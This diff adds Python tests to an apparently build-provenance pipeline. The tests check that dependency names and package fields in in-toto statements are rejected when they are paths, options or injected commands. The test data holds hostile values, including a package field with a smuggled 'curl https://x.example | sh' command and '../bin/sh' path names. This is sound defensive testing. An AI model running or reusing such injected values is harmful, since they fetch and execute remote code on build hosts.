@@ -106,3 +106,28 @@ def test_the_build_environment_is_recorded_only_as_pinned(tmp_path):
         assert info.value.found == value
     with pytest.raises(EnvironmentProblem):
         build_environment.observed({build_environment.CONTAINER_VARIABLE: pin["container"]})  # one without the other
+
+
+def _statement_recording(*dependencies):
+    from pipeline.formats.provenance import Statement
+
+    document = {"predicate": {"buildDefinition": {"resolvedDependencies": list(dependencies)}}}
+    return Statement(b"", document, {}, "", {}, "")
+
+
+def test_a_statement_naming_a_path_or_an_option_as_a_build_host_dependency_is_refused_before_anything_runs():
+    from pipeline.errors import InputError
+    from pipeline.formats.provenance import recorded_host
+
+    compiler = {"name": "build-host:tool:c++", "annotations": {"version": "12.2.0", "origin": "debian", "debian_package": "g++-12", "debian_version": "12.2.0-14+deb12u1"}}
+    [entry] = recorded_host(_statement_recording(compiler))
+    assert (entry["name"], entry["kind"], entry["debian_version"]) == ("c++", "tool", "12.2.0-14+deb12u1")
+    # The rebuild runs '<tool> --version' and 'pkg-config <module>' for each: never a path, an option or another kind.
+    for name in ("build-host:tool:/tmp/evil", "build-host:tool:../bin/sh", "build-host:pkg-config:--define-variable=x", "build-host:script:x"):
+        with pytest.raises(InputError, match="not a module or tool name") as info:
+            recorded_host(_statement_recording({"name": name}), origin="s.intoto.json")
+        assert info.value.found == name and info.value.file == "s.intoto.json"
+    # What the refusal's fix prints as a command to run is package and version words only.
+    hostile = {**compiler, "annotations": {**compiler["annotations"], "debian_package": "g++-12; curl https://x.example | sh"}}
+    with pytest.raises(InputError, match="debian_package that is not a package or version word"):
+        recorded_host(_statement_recording(hostile))
